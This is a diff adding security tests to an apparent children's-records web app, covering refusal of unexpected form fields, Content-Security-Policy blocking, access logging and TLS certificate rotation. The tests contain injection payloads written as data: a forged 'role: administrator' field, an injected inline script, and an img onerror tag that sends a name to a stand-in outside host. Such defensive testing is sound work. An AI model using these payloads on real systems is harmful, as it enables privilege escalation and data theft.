@@ -1,6 +1,7 @@
 // What the program refuses whoever asks, and what it never lets out.
 import { spawnSync } from "node:child_process";
-import { readFileSync } from "node:fs";
+import { readFileSync, writeFileSync } from "node:fs";
+import { get } from "node:https";
 import { connect } from "node:net";
 import { join } from "node:path";
 import { checkAccessible, checkNoHorizontalScroll } from "../browser/checks.js";
@@ -44,6 +45,56 @@ test("[15.3.7] a form with a field twice is refused, and nothing of it is kept",
     expect(answer.status()).toBe(400);
   }
   expect(await (await page.request.get(`${children[0].path}/jotter`)).text()).not.toContain(words);
+});
+
+test("[15.3.3] a form with a field that its page does not ask for is refused in plain words, and nothing of it is kept", async ({ page, authority }) => {
+  const { children } = await signInWithChildren(page, authority);
+  const words = "Sent with a field that nobody asked for";
+  await page.goto(`${children[0].path}/record/telephone_call`);
+  await page.getByLabel("Key issues").fill(words);
+  await page.locator("form.app-composer").evaluate((form) => {
+    form.removeAttribute("data-autosave-url");
+    form.insertAdjacentHTML("beforeend", '<input type="hidden" name="state" value="completed">');
+  });
+  await page.getByRole("button", { name: "Save to the file, finish later" }).click();
+  await expect(page.getByRole("heading", { level: 1 })).toHaveText("This form has something that the page does not ask for");
+  await expect(page.getByText("Nothing of it was saved.")).toBeVisible();
+  await checkAccessible(page);
+  await checkNoHorizontalScroll(page);
+  expect(await (await page.request.get(`${children[0].path}/file`)).text()).not.toContain(words);
+
+  await page.goto(`${children[0].path}/jotter`);
+  const csrf = await page.locator('input[name="csrf"]').first().inputValue();
+  const forms = { [`${children[0].path}/jotter`]: { words }, [`${children[0].path}/print`]: { what: "file", reason: "court" }, "/find": { words }, "/account/shortcuts": { shortcuts: "off" }, "/sign-in": { user_name: "a", password: "b" } };
+  for (const [path, form] of Object.entries(forms)) {
+    const answer = await page.request.post(path, { form: { csrf, ...form, role: "administrator" } });
+    expect(answer.status(), path).toBe(400);
+    const file = await page.request.post(path, { multipart: { csrf, ...form, photo: { name: "a.png", mimeType: "image/png", buffer: Buffer.from("a") } } });
+    expect(file.status(), path).toBe(400);
+  }
+  expect(await (await page.request.get(`${children[0].path}/jotter`)).text()).not.toContain(words);
+});
+
+test("[3.4.3] [3.4.7] a script that came into a page by stealth does not run, and the browser’s report of it is a line in the log without anybody’s data", async ({ page, authority }) => {
+  const { children } = await signInWithChildren(page, authority);
+  const nonces = [];
+  for (const path of ["/", `${children[0].path}/file`]) {
+    const answer = await page.goto(path);
+    const [, nonce] = answer.headers()["content-security-policy"].match(/script-src 'nonce-([\w-]{40,})';/);
+    expect(await page.locator("script").evaluateAll((all) => all.map((script) => script.nonce))).toEqual([nonce]);
+    nonces.push(nonce);
+  }
+  expect(nonces[0]).not.toBe(nonces[1]);
+  await page.evaluate(() => {
+    document.body.append(Object.assign(document.createElement("script"), { textContent: "document.title = 'taken'" }));
+    document.body.insertAdjacentHTML("beforeend", '<img src="https://elsewhere.invalid/?name=Tom" onerror="document.title = \'taken\'">');
+  });
+  await expect.poll(() => authority.log).toContain("a browser refused what a page held: script-src-elem, inline, on /children/#/file");
+  await expect.poll(() => authority.log).toContain("a browser refused what a page held: img-src, an address, on /children/#/file");
+  expect(await page.title()).not.toBe("taken");
+  expect(authority.log).not.toContain("elsewhere.invalid");
+  const forged = await page.request.post("/policy-reports", { data: "no report", headers: { "content-type": "application/csp-report" } });
+  expect(forged.status()).toBe(204);
 });
 
 test("[2.4.1] somebody in haste is asked to wait, and nobody else is", async ({ page, browser, authority }) => {
@@ -128,7 +179,18 @@ test("[16.4.1] nobody can write a line of their own into the log", async ({ auth
   await sent(authority, `POST /sign-in HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${10 + words.length}\r\n\r\nuser_name=${words}`);
   const lines = readFileSync(log, "utf8").trim().split("\n").map((text) => JSON.parse(text));
   expect(lines.length).toBeGreaterThanOrEqual(3);
-  for (const one of lines) expect(Object.keys(one)).toEqual(["time", "request", "method", "route", "status", "bytes", "microseconds", "remote"]);
+  for (const one of lines) expect(Object.keys(one)).toEqual(["time", "request", "method", "route", "status", "bytes", "microseconds", "remote", "refused"]);
+});
+
+test("[16.3.2] who is refused a page stands in the access log with why, and not with a name", async ({ page, authority }) => {
+  const log = join(authority.folder, "refused.log");
+  await authority.serveAnew("--access-log", log);
+  const user = authority.userWithRole("practitioner");
+  await signIn(page, authority, user.name);
+  expect((await page.request.get("/staff")).status()).toBe(403);
+  const lines = readFileSync(log, "utf8").trim().split("\n").map((text) => JSON.parse(text));
+  expect(lines.filter(({ refused }) => refused).map(({ route, refused }) => [route, refused])).toEqual([["/staff", "role"]]);
+  expect(readFileSync(log, "utf8")).not.toContain(user.name);
 });
 
 test("[12.1.1] over TLS pages come by 1.2 or later, and plain http is not answered", async ({ authority }) => {
@@ -141,4 +203,34 @@ test("[12.1.1] over TLS pages come by 1.2 or later, and plain http is not answer
   expect(connected("-tls1_2")).toMatch(/Cipher is ECDHE-/);
   expect(connected("-tls1_1")).toContain("Cipher is (NONE)");
   expect(await sent(authority, "GET / HTTP/1.1\r\nHost: a\r\n\r\n")).not.toContain("HTTP/1.1 200");
+});
+
+test("[13.3.4] certificate and key are changed while pages are asked for, and no request fails", async ({ authority }) => {
+  const [certificate, key] = ["changed.pem", "changed.key"].map((name) => join(authority.folder, name));
+  const issue = (name) => {
+    const words = ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "1", "-subj", `/CN=${name}`];
+    expect(spawnSync("openssl", [...words, "-keyout", key, "-out", certificate]).status).toBe(0);
+  };
+  issue("first.example");
+  await authority.serveAnew("--tls-certificate", certificate, "--tls-key", key);
+  const asked = { statuses: new Map(), names: new Set(), goes: true };
+  const ask = () =>
+    new Promise((resolve) => {
+      const request = get(`${authority.url}/sign-in`, { rejectUnauthorized: false, agent: false }, (answer) => {
+        asked.names.add(answer.socket.getPeerCertificate().subject.CN);
+        answer.resume().on("end", () => resolve(answer.statusCode));
+      });
+      request.on("error", (error) => resolve(error.message));
+    });
+  const asking = Array.from({ length: 4 }, async () => {
+    for (let status; asked.goes; asked.statuses.set(status, (asked.statuses.get(status) ?? 0) + 1)) status = await ask();
+  });
+  await expect.poll(() => asked.names.has("first.example")).toBe(true);
+  issue("second.example");
+  await expect.poll(() => asked.names.has("second.example"), { timeout: 10_000 }).toBe(true);
+  writeFileSync(key, "no key");
+  await expect.poll(() => authority.log, { timeout: 10_000 }).toContain("Reading the TLS certificate and key again fails");
+  asked.goes = false;
+  await Promise.all(asking);
+  expect([...asked.statuses.keys()]).toEqual([200]);
 });
